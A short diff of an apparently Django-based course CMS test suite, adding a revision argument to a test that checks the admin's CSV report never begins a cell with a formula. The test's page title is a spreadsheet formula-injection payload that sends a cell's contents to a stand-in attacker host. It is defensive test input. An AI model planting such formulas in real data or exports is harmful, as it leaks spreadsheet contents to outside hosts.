@@ -46,7 +46,8 @@ def test_a_grader_of_a_course_grades_its_translation_s_paper_as_they_see_it(clie
 
 def test_the_admin_s_report_csv_never_starts_a_cell_with_a_formula(client):
     catalogue = cms_factories.catalogue_page(cms_factories.home_page())
-    cms_factories.course_page(catalogue, title='=HYPERLINK("http://evil.example/?"&A1,"x")')
+    # Published through a revision: the aging-pages report lists pages by their publishing log.
+    cms_factories.course_page(catalogue, title='=HYPERLINK("http://evil.example/?"&A1,"x")', revision=True)
     from django.contrib.auth import get_user_model
 
     admin = get_user_model().objects.create_superuser("r2admin", "r2admin@example.com", "x")
